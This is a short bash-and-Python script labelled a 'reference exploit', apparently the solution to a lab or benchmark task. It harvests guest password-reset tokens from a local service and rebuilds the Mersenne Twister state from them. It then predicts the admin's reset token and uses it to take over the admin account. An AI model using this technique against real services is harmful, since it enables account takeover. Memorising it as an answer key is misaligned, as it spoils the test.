#!/bin/bash
# Reference exploit: tokens are Python's random.getrandbits(128), i.e. four MT19937 outputs each.
# 156 guest tokens give 624 consecutive outputs; untempering them is the generator's whole state,
# which predicts the admin's token.
set -euo pipefail
python3 - <<'PY'
import http.client, json, random

conn = http.client.HTTPConnection("127.0.0.1", 9008, timeout=30)
def post(path, body):
    conn.request("POST", path, json.dumps(body), {"Content-Type": "application/json"})
    return json.loads(conn.getresponse().read())

# stage: 624 consecutive 32-bit outputs, least significant word first within each token
words = []
for _ in range(156):
    token = int(post("/reset", {"user": "guest"})["mailbox"].split()[-1], 16)
    words += [(token >> (32 * i)) & 0xFFFFFFFF for i in range(4)]

# stage: undo the tempering to get the internal state, then run the generator forward
def untemper(y):
    y ^= y >> 18
    y ^= (y << 15) & 0xEFC60000
    x = y
    for _ in range(5):
        x = y ^ ((x << 7) & 0x9D2C5680)
    y = x & 0xFFFFFFFF
    x = y
    for _ in range(3):
        x = y ^ (x >> 11)
    return x & 0xFFFFFFFF

predictor = random.Random()
predictor.setstate((3, tuple(untemper(w) for w in words) + (624,), None))
post("/reset", {"user": "admin"})
print(post("/confirm", {"user": "admin", "token": f"{predictor.getrandbits(128):032x}", "password": "x"}))
PY
